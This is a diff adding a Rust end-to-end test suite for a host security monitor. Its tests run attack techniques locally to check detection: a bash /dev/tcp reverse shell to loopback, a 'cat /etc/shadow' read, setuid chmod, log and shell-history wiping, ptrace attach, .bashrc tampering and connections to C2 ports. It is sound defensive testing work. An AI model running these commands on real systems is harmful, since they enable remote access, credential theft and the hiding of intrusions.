@@ -1,0 +1,743 @@
+//! The shipped rule pack against real activity: each test performs one attack technique for real
+//! on this machine (loopback only, files the test removes) and expects the shared monitor to
+//! rate the event `suspicious` or `malicious` with the right rule in `analysis.rules`; the last
+//! test runs an ordinary developer workload and expects nothing it did to be rated at all.
+//!
+//! Chain rules (`dropped_file_executed`, `discovery_burst`) remember their marker hits on the
+//! matching process **and its parent**. Every technique that can leave a marker (writing an
+//! executable to a temp directory, a discovery command) therefore runs inside its own child
+//! shell, never in the test process: a marker on the test process would reach every process the
+//! other tests start, the benign workload included.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use std::io::{ErrorKind, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::os::unix::fs::OpenOptionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+use crate::common::{
+    Checkpoint, DEFAULT_TIMEOUT, Monitor, TestDir, die_with_parent, marker, monitor, path_str, run,
+    spawn, str_is, wait_child,
+};
+
+/// How long a child technique may take.
+const CHILD_TIMEOUT: Duration = Duration::from_secs(20);
+/// How long the benign workload (a compile, git, Python) may take.
+const WORKLOAD_TIMEOUT: Duration = Duration::from_secs(120);
+
+// ---------------------------------------------------------------------------------------------
+// Helpers
+
+/// Removes a file on drop, whether the test passed or not (for files outside a [`TestDir`]).
+struct RemoveOnDrop(PathBuf);
+
+impl Drop for RemoveOnDrop {
+    fn drop(&mut self) {
+        // Already gone when the technique itself deleted it.
+        let _ = fs::remove_file(&self.0);
+    }
+}
+
+fn severity(e: &Value) -> &str {
+    e["analysis"]["severity"].as_str().unwrap_or("?")
+}
+
+fn rule_names(e: &Value) -> Vec<&str> {
+    e["analysis"]["rules"]
+        .as_array()
+        .map(|rules| rules.iter().filter_map(Value::as_str).collect())
+        .unwrap_or_default()
+}
+
+fn has_rule(e: &Value, rule: &str) -> bool {
+    rule_names(e).contains(&rule)
+}
+
+/// One event, its verdict first, for failure messages.
+fn show(e: &Value) -> String {
+    let a = &e["analysis"];
+    format!(
+        "  {} pid {} ppid {} process {:?} exe {:?} cmdline {:?}{}{}\n    analysis: severity {} risk {} rules {} label {:?}\n    event: {e}",
+        e["event_type"].as_str().unwrap_or("?"),
+        e["pid"],
+        e["ppid"],
+        e["process"].as_str().unwrap_or("?"),
+        e["exe"].as_str().unwrap_or("?"),
+        e["cmdline"].as_str().unwrap_or("?"),
+        e.get("file_path")
+            .map(|p| format!(" file_path {p}"))
+            .unwrap_or_default(),
+        e.get("target_port")
+            .map(|p| format!(" target {}:{p}", e["target_ip"]))
+            .unwrap_or_default(),
+        severity(e),
+        a["risk_score"],
+        a["rules"],
+        a["label"].as_str().unwrap_or("?"),
+    )
+}
+
+/// Waits for the event of type `kind` that `pred` picks out (the technique's own event), then
+/// asserts that it is rated `suspicious` or `malicious` and that `rule` is among its rules.
+/// Several events may match `pred` (a shell that opens its redirection twice…): one of them
+/// must carry the rule. Returns that event.
+#[track_caller]
+fn expect_rated(
+    mon: &Monitor,
+    cp: &Checkpoint,
+    kind: &str,
+    what: &str,
+    rule: &str,
+    pred: impl Fn(&Value) -> bool,
+) -> Value {
+    let first = mon.expect(cp, kind, what, &pred);
+    let candidates = if has_rule(&first, rule) {
+        vec![first]
+    } else {
+        // Let the rest of the technique's events arrive, then look at all of them. The predicates
+        // name pids or paths unique to this test, so scanning from the start is safe.
+        thread::sleep(Duration::from_millis(500));
+        mon.events()
+            .into_iter()
+            .filter(|e| e["event_type"] == kind && pred(e))
+            .collect()
+    };
+    let Some(e) = candidates.iter().find(|e| has_rule(e, rule)) else {
+        let shown: Vec<String> = candidates.iter().map(show).collect();
+        panic!(
+            "{what}: expected rule `{rule}` in analysis.rules (rated suspicious or malicious), \
+             but no matching {kind} event has it; the {} matching event(s):\n{}",
+            candidates.len(),
+            shown.join("\n")
+        );
+    };
+    assert!(
+        ["suspicious", "malicious"].contains(&severity(e)),
+        "{what}: rule `{rule}` matched but the event is rated {:?}, not suspicious or malicious:\n{}",
+        severity(e),
+        show(e)
+    );
+    eprintln!(
+        "rules_e2e: {what}: {} (risk {}) rules {:?}",
+        severity(e),
+        e["analysis"]["risk_score"],
+        rule_names(e)
+    );
+    e.clone()
+}
+
+/// Spawns a command with no stdio (so it cannot leak secrets into the test output) that dies
+/// with the test thread, and waits for it to succeed.
+#[track_caller]
+fn run_quiet(cmd: &mut Command) -> u32 {
+    cmd.stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null());
+    die_with_parent(cmd);
+    let mut child = spawn(cmd);
+    let pid = child.id();
+    let status = wait_child(&mut child, CHILD_TIMEOUT);
+    assert!(status.success(), "{cmd:?} (pid {pid}) failed: {status}");
+    pid
+}
+
+/// Runs a command (bounded) that must succeed; returns its pid and stdout.
+#[track_caller]
+fn run_ok(cmd: &mut Command) -> (u32, String) {
+    let out = run(cmd, CHILD_TIMEOUT);
+    assert!(
+        out.status.success(),
+        "{cmd:?} failed ({}); stderr:\n{}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+    // The children below print their own pid first: with a pyenv-style shim in PATH the
+    // interpreter is not the process the test spawned.
+    let pid = stdout
+        .lines()
+        .next()
+        .and_then(|l| l.trim().parse().ok())
+        .unwrap_or_else(|| panic!("{cmd:?} should print its pid first, printed {stdout:?}"));
+    (pid, stdout)
+}
+
+/// Creates a file with O_CREAT|O_EXCL (no O_TRUNC, so creating it is not itself "truncation").
+fn create_new(path: &Path, mode: u32, contents: &[u8]) {
+    let mut f = fs::OpenOptions::new()
+        .write(true)
+        .create_new(true)
+        .mode(mode)
+        .open(path)
+        .unwrap_or_else(|e| panic!("create {}: {e}", path.display()));
+    f.write_all(contents)
+        .unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Execution
+
+/// `cp /bin/true DEST && DEST` in a child shell; returns the shell's pid.
+fn drop_and_run(dest: &Path) -> u32 {
+    run_quiet(
+        Command::new("/bin/sh")
+            .args(["-c", r#"cp /bin/true "$1" && "$1""#, "sh"])
+            .arg(dest),
+    )
+}
+
+#[test]
+fn exec_from_dev_shm_is_rated() {
+    let mon = monitor();
+    let exe = PathBuf::from(format!("/dev/shm/{}", marker()));
+    let _cleanup = RemoveOnDrop(exe.clone());
+    let exe_s = path_str(&exe);
+
+    let cp = mon.checkpoint();
+    let sh = drop_and_run(&exe);
+    expect_rated(
+        mon,
+        &cp,
+        "process_exec",
+        &format!("exec of a copied /bin/true from {exe_s}"),
+        "exec_from_dev_shm",
+        |e| e["exe"] == exe_s.as_str() && (e["ppid"] == sh || e["pid"] == sh),
+    );
+}
+
+#[test]
+fn exec_from_tmp_root_is_rated() {
+    let mon = monitor();
+    let exe = PathBuf::from(format!("/tmp/{}", marker()));
+    let _cleanup = RemoveOnDrop(exe.clone());
+    let exe_s = path_str(&exe);
+
+    let cp = mon.checkpoint();
+    let sh = drop_and_run(&exe);
+    expect_rated(
+        mon,
+        &cp,
+        "process_exec",
+        &format!("exec of a copied /bin/true from {exe_s}"),
+        "exec_from_tmp_root",
+        |e| e["exe"] == exe_s.as_str() && (e["ppid"] == sh || e["pid"] == sh),
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Credential access, privilege escalation
+
+#[test]
+fn shadow_read_is_rated() {
+    let mon = monitor();
+    let cp = mon.checkpoint();
+    // stdout is /dev/null: the hashes never reach the test output.
+    let pid = run_quiet(Command::new("cat").arg("/etc/shadow"));
+    expect_rated(
+        mon,
+        &cp,
+        "file_open",
+        &format!("`cat /etc/shadow` (pid {pid})"),
+        "shadow_file_read",
+        |e| e["pid"] == pid && e["file_path"] == "/etc/shadow",
+    );
+}
+
+#[test]
+fn setuid_chmod_is_rated() {
+    let mon = monitor();
+    let m = marker();
+    let dir = TestDir::new(&m);
+    let file = dir.join("payload");
+    fs::write(&file, b"not a program\n").expect("create the file to chmod");
+    let file_s = path_str(&file);
+
+    let cp = mon.checkpoint();
+    let pid = run_quiet(Command::new("chmod").arg("u+s").arg(&file));
+    let e = expect_rated(
+        mon,
+        &cp,
+        "file_chmod",
+        &format!("`chmod u+s {file_s}` (pid {pid})"),
+        "setuid_setgid_bit_set",
+        |e| e["pid"] == pid && e["file_path"] == file_s.as_str(),
+    );
+    let mode = e["mode"].as_u64().unwrap_or(0);
+    assert!(mode & 0o4000 != 0, "the chmod sets S_ISUID:\n{}", show(&e));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Command and control (loopback only)
+
+#[test]
+fn dev_tcp_reverse_shell_is_rated() {
+    let mon = monitor();
+    let home = TestDir::new(&marker());
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind a loopback listener");
+    let port = listener.local_addr().expect("listener address").port();
+    listener
+        .set_nonblocking(true)
+        .expect("make the listener non-blocking");
+
+    let script = format!("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
+    let cp = mon.checkpoint();
+    let mut cmd = Command::new("bash");
+    cmd.args(["-c", &script])
+        // A throw-away HOME and no history file: the interactive shell leaves nothing behind.
+        .env("HOME", home.path())
+        .env("HISTFILE", "")
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null());
+    die_with_parent(&mut cmd);
+    let mut child = spawn(&mut cmd);
+    let pid = child.id();
+
+    // Play the attacker's listener: take the connection, make the shell exit, close.
+    let deadline = Instant::now() + DEFAULT_TIMEOUT;
+    let mut conn: TcpStream = loop {
+        match listener.accept() {
+            Ok((conn, _)) => break conn,
+            Err(e) if e.kind() == ErrorKind::WouldBlock && Instant::now() < deadline => {
+                if let Ok(Some(status)) = child.try_wait() {
+                    panic!("the reverse shell (pid {pid}) exited ({status}) before connecting");
+                }
+                thread::sleep(Duration::from_millis(20));
+            }
+            Err(e) => {
+                let _ = child.kill();
+                let _ = child.wait();
+                panic!("the reverse shell (pid {pid}) did not connect to 127.0.0.1:{port}: {e}");
+            }
+        }
+    };
+    conn.set_nonblocking(false).expect("blocking connection");
+    conn.set_read_timeout(Some(Duration::from_secs(5)))
+        .expect("set a read timeout");
+    conn.write_all(b"exit\n").expect("tell the shell to exit");
+    let mut rest = Vec::new();
+    // The shell's prompt and job-control warnings, then EOF; a timeout only means it lingers.
+    let _ = conn.read_to_end(&mut rest);
+    drop(conn);
+    drop(listener);
+    wait_child(&mut child, CHILD_TIMEOUT);
+
+    expect_rated(
+        mon,
+        &cp,
+        "process_exec",
+        &format!("`bash -c '{script}'` (pid {pid})"),
+        "reverse_shell_dev_tcp",
+        |e| e["pid"] == pid && str_is(e, "cmdline", |c| c.contains("/dev/tcp/")),
+    );
+    expect_rated(
+        mon,
+        &cp,
+        "net_connect",
+        &format!("the reverse shell's connect to 127.0.0.1:{port}"),
+        "shell_network_connection",
+        |e| e["target_port"] == port && e["target_ip"] == "127.0.0.1",
+    );
+}
+
+/// Ports of the pack's `suspicious_ports` list, in the order the test tries them.
+const C2_PORTS: [u16; 5] = [4444, 31337, 1337, 5555, 12345];
+
+#[test]
+fn c2_port_connection_is_rated() {
+    let mon = monitor();
+    let (listener, port) = C2_PORTS
+        .iter()
+        .find_map(|&p| TcpListener::bind(("127.0.0.1", p)).ok().map(|l| (l, p)))
+        .unwrap_or_else(|| panic!("none of the loopback ports {C2_PORTS:?} is free"));
+
+    let cp = mon.checkpoint();
+    let (pid, _) = run_ok(Command::new("python3").args([
+        "-c",
+        "import os, sys, socket\n\
+         print(os.getpid(), flush=True)\n\
+         s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5)\n\
+         s.close()\n",
+        &port.to_string(),
+    ]));
+    // Tidy up the connection the kernel completed for us.
+    listener
+        .set_nonblocking(true)
+        .expect("make the listener non-blocking");
+    drop(listener.accept());
+    drop(listener);
+
+    expect_rated(
+        mon,
+        &cp,
+        "net_connect",
+        &format!("python3 (pid {pid}) connecting to 127.0.0.1:{port}"),
+        "suspicious_port_connection",
+        |e| e["pid"] == pid && e["target_port"] == port,
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Defence evasion
+
+#[test]
+fn log_truncation_and_deletion_are_rated() {
+    let mon = monitor();
+    let log = PathBuf::from(format!("/var/log/{}.log", marker()));
+    let _cleanup = RemoveOnDrop(log.clone());
+    let log_s = path_str(&log);
+    create_new(
+        &log,
+        0o640,
+        b"Nov 23 00:00:00 host sshd[1]: Accepted password for root\n",
+    );
+
+    let cp = mon.checkpoint();
+    let sh = run_quiet(
+        Command::new("/bin/sh")
+            .args(["-c", r#": > "$1""#, "sh"])
+            .arg(&log),
+    );
+    expect_rated(
+        mon,
+        &cp,
+        "file_write",
+        &format!("`: > {log_s}` (sh pid {sh})"),
+        "log_file_cleared",
+        |e| e["pid"] == sh && e["file_path"] == log_s.as_str(),
+    );
+
+    let cp = mon.checkpoint();
+    let rm = run_quiet(Command::new("rm").arg("-f").arg(&log));
+    expect_rated(
+        mon,
+        &cp,
+        "file_delete",
+        &format!("`rm -f {log_s}` (pid {rm})"),
+        "log_file_cleared",
+        |e| e["pid"] == rm && e["file_path"] == log_s.as_str(),
+    );
+}
+
+#[test]
+fn history_truncation_is_rated() {
+    let mon = monitor();
+    let home = TestDir::new(&marker());
+    let history = home.join(".bash_history");
+    let history_s = path_str(&history);
+    create_new(&history, 0o600, b"ls\nssh root@10.0.0.1\n");
+
+    let cp = mon.checkpoint();
+    let sh = run_quiet(
+        Command::new("/bin/sh")
+            .args(["-c", r#"cat /dev/null > "$HOME/.bash_history""#])
+            .env("HOME", home.path()),
+    );
+    expect_rated(
+        mon,
+        &cp,
+        "file_write",
+        &format!("`cat /dev/null > {history_s}` (sh pid {sh})"),
+        "shell_history_tampering",
+        |e| e["pid"] == sh && e["file_path"] == history_s.as_str(),
+    );
+    assert_eq!(
+        fs::metadata(&history).expect("the history file").len(),
+        0,
+        "the history was truncated"
+    );
+}
+
+#[test]
+fn hidden_file_in_dev_shm_is_rated() {
+    let mon = monitor();
+    let hidden = PathBuf::from(format!("/dev/shm/.{}", marker()));
+    let _cleanup = RemoveOnDrop(hidden.clone());
+    let hidden_s = path_str(&hidden);
+
+    let cp = mon.checkpoint();
+    let pid = run_quiet(Command::new("touch").arg(&hidden));
+    expect_rated(
+        mon,
+        &cp,
+        "file_write",
+        &format!("`touch {hidden_s}` (pid {pid})"),
+        "hidden_file_in_temp_dir",
+        |e| e["pid"] == pid && e["file_path"] == hidden_s.as_str(),
+    );
+}
+
+/// PTRACE_ATTACH from Python (not a debugger) to a `sleep` it started, then detach and kill.
+const PTRACE_SCRIPT: &str = r#"
+import ctypes, os, subprocess, sys
+print(os.getpid(), flush=True)
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+libc.ptrace.restype = ctypes.c_long
+target = subprocess.Popen(["sleep", "60"])
+try:
+    if libc.ptrace(16, target.pid, None, None) != 0:  # PTRACE_ATTACH
+        sys.exit("PTRACE_ATTACH: " + os.strerror(ctypes.get_errno()))
+    os.waitpid(target.pid, 0x40000000)  # __WALL: the attach stop
+    libc.ptrace(17, target.pid, None, None)  # PTRACE_DETACH
+    print(target.pid, flush=True)
+finally:
+    target.kill()
+    target.wait()
+"#;
+
+#[test]
+fn ptrace_attach_by_non_debugger_is_rated() {
+    let mon = monitor();
+    let cp = mon.checkpoint();
+    let (pid, out) = run_ok(Command::new("python3").args(["-c", PTRACE_SCRIPT]));
+    let target: u32 = out
+        .lines()
+        .nth(1)
+        .and_then(|l| l.trim().parse().ok())
+        .unwrap_or_else(|| panic!("the script prints the traced pid second, printed {out:?}"));
+    expect_rated(
+        mon,
+        &cp,
+        "ptrace",
+        &format!("PTRACE_ATTACH by python3 (pid {pid}) to sleep (pid {target})"),
+        "ptrace_attach_unexpected",
+        |e| e["pid"] == pid && e["ptrace_request"] == "PTRACE_ATTACH" && e["target_pid"] == target,
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Persistence
+
+#[test]
+fn bashrc_write_is_rated() {
+    let mon = monitor();
+    let home = TestDir::new(&marker());
+    let rc = home.join(".bashrc");
+    let rc_s = path_str(&rc);
+
+    let cp = mon.checkpoint();
+    let sh = run_quiet(
+        Command::new("/bin/sh")
+            .args(["-c", r#"echo 'alias sudo="sudo -E"' >> "$HOME/.bashrc""#])
+            .env("HOME", home.path()),
+    );
+    expect_rated(
+        mon,
+        &cp,
+        "file_write",
+        &format!("`echo … >> {rc_s}` (sh pid {sh})"),
+        "shell_profile_modified",
+        |e| e["pid"] == sh && e["file_path"] == rc_s.as_str(),
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Discovery
+
+#[test]
+fn discovery_burst_is_rated() {
+    let mon = monitor();
+    let cp = mon.checkpoint();
+    let sh = run_quiet(Command::new("/bin/sh").args(["-c", "id; whoami; uname -a; hostname"]));
+    // The first command only leaves the marker; each later one is the burst. dash runs the last
+    // command of `-c` in the shell's own process.
+    for name in ["whoami", "uname", "hostname"] {
+        expect_rated(
+            mon,
+            &cp,
+            "process_exec",
+            &format!("`{name}` (in `sh -c 'id; whoami; uname -a; hostname'`, sh pid {sh})"),
+            "discovery_burst",
+            |e| e["process"] == name && (e["ppid"] == sh || e["pid"] == sh),
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Normal activity stays quiet
+
+/// Ordinary developer work: write and compile a C program and run it, a git repository with a
+/// commit, a Python script, a bash here-document, and reading /etc.
+const BENIGN_SCRIPT: &str = r#"set -eu
+cd "$WORK"
+cat > hello.c <<'EOF'
+#include <stdio.h>
+int main(void) { puts("hello, secmon"); return 0; }
+EOF
+cc -O2 -Wall -o hello hello.c
+./hello
+git init -q repo
+cd repo
+git config user.name "Secmon Test"
+git config user.email "secmon-test@example.invalid"
+cp ../hello.c .
+git add hello.c
+git commit -q -m "Add hello"
+git log --oneline
+cd ..
+cat > script.py <<'EOF'
+import hashlib, json, os, subprocess, tempfile
+listing = sorted(os.listdir("."))
+with tempfile.TemporaryDirectory() as d:
+    path = os.path.join(d, "listing.json")
+    with open(path, "w") as f:
+        json.dump(listing, f)
+    with open(path, "rb") as f:
+        print(hashlib.sha256(f.read()).hexdigest())
+print(subprocess.run(["git", "-C", "repo", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip())
+EOF
+python3 script.py
+bash -c 'n=$(wc -l <<EOF
+one
+two
+EOF
+); echo "$n lines"'
+ls -la /etc
+cat /etc/passwd
+grep -r root /etc/passwd /etc/group
+"#;
+
+/// The pid of `root` and of every process it forked, transitively (from `process_fork` events,
+/// and exec events naming a parent in the tree in case a fork event was missed).
+fn process_tree(events: &[Value], root: u32) -> BTreeSet<u64> {
+    let mut tree = BTreeSet::from([u64::from(root)]);
+    loop {
+        let before = tree.len();
+        for e in events {
+            let forked = e["event_type"] == "process_fork" || e["event_type"] == "process_exec";
+            if let (true, Some(pid), Some(ppid)) = (forked, e["pid"].as_u64(), e["ppid"].as_u64())
+                && tree.contains(&ppid)
+            {
+                tree.insert(pid);
+            }
+        }
+        if tree.len() == before {
+            return tree;
+        }
+    }
+}
+
+#[test]
+fn benign_workload_is_not_rated() {
+    let mon = monitor();
+    // A project directory outside /tmp, as a developer's would be (the compiler still uses /tmp
+    // for its intermediate files). A program run from a temp sub-directory scores 0.35 alone
+    // (benign), but the chain `dropped_file_executed` (+0.5, suspicious together) also fires
+    // when *any* ancestor dropped an executable in a temp directory within the last minute, and
+    // this test process is such an ancestor whenever other tests copy executables into /tmp.
+    let work = tempfile::Builder::new()
+        .prefix(&format!("{}-", marker()))
+        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+        .expect("create the workload directory");
+    let work_path = work.path().canonicalize().expect("canonicalise it");
+    let start = mon.events().len();
+
+    let cp = mon.checkpoint();
+    let mut cmd = Command::new("/bin/sh");
+    cmd.args(["-c", BENIGN_SCRIPT])
+        .env("WORK", &work_path)
+        .env("HOME", &work_path)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    die_with_parent(&mut cmd);
+    let mut child = spawn(&mut cmd);
+    let sh = child.id();
+    let mut child_out = child.stdout.take().expect("stdout is piped");
+    let mut child_err = child.stderr.take().expect("stderr is piped");
+    let out = thread::spawn(move || {
+        let mut buf = Vec::new();
+        let _ = child_out.read_to_end(&mut buf);
+        String::from_utf8_lossy(&buf).into_owned()
+    });
+    let err = thread::spawn(move || {
+        let mut buf = Vec::new();
+        let _ = child_err.read_to_end(&mut buf);
+        String::from_utf8_lossy(&buf).into_owned()
+    });
+    let status = wait_child(&mut child, WORKLOAD_TIMEOUT);
+    let stdout = out.join().expect("the stdout reader does not panic");
+    let stderr = err.join().expect("the stderr reader does not panic");
+    assert!(
+        status.success(),
+        "the benign workload (sh pid {sh}) failed ({status}); stdout:\n{stdout}\nstderr:\n{stderr}"
+    );
+    assert!(
+        stdout.contains("hello, secmon"),
+        "the compiled program ran: {stdout}"
+    );
+
+    // Everything the workload did has arrived once its shell's exit and a later sync point have.
+    mon.expect(
+        &cp,
+        "process_exit",
+        &format!("the workload's sh (pid {sh})"),
+        |e| e["pid"] == sh,
+    );
+    mon.sync_point(&work_path);
+    let events: Vec<Value> = mon.events().split_off(start);
+    let tree = process_tree(&events, sh);
+    let ours: Vec<&Value> = events
+        .iter()
+        .filter(|e| e["pid"].as_u64().is_some_and(|p| tree.contains(&p)))
+        .collect();
+
+    // The workload was observed, not just run: each of its programs shows up.
+    let execs: BTreeSet<&str> = ours
+        .iter()
+        .filter(|e| e["event_type"] == "process_exec")
+        .filter_map(|e| e["process"].as_str())
+        .collect();
+    for (what, found) in [
+        ("cc", execs.contains("cc") || execs.contains("gcc")),
+        ("cc1", execs.contains("cc1")),
+        ("hello", execs.contains("hello")),
+        ("git", execs.contains("git")),
+        ("python", execs.iter().any(|n| n.starts_with("python"))),
+        ("bash", execs.contains("bash")),
+        ("ls", execs.contains("ls")),
+        ("cat", execs.contains("cat")),
+        ("grep", execs.contains("grep")),
+    ] {
+        assert!(
+            found,
+            "no process_exec of {what} in the workload's process tree {tree:?}; execs seen: {execs:?}"
+        );
+    }
+
+    let mut matched: BTreeMap<&str, usize> = BTreeMap::new();
+    for e in &ours {
+        for r in rule_names(e) {
+            *matched.entry(r).or_default() += 1;
+        }
+    }
+    eprintln!(
+        "rules_e2e: benign workload: {} events from {} processes; rules matched (all below the \
+         threshold unless reported): {matched:?}",
+        ours.len(),
+        tree.len()
+    );
+    let rated: Vec<String> = ours
+        .iter()
+        .filter(|e| severity(e) != "benign")
+        .map(|e| show(e))
+        .collect();
+    assert!(
+        rated.is_empty(),
+        "the benign workload (sh pid {sh}, {} processes, {} events) has {} event(s) rated \
+         suspicious or malicious:\n{}",
+        tree.len(),
+        ours.len(),
+        rated.len(),
+        rated.join("\n")
+    );
+    drop(work);
+}
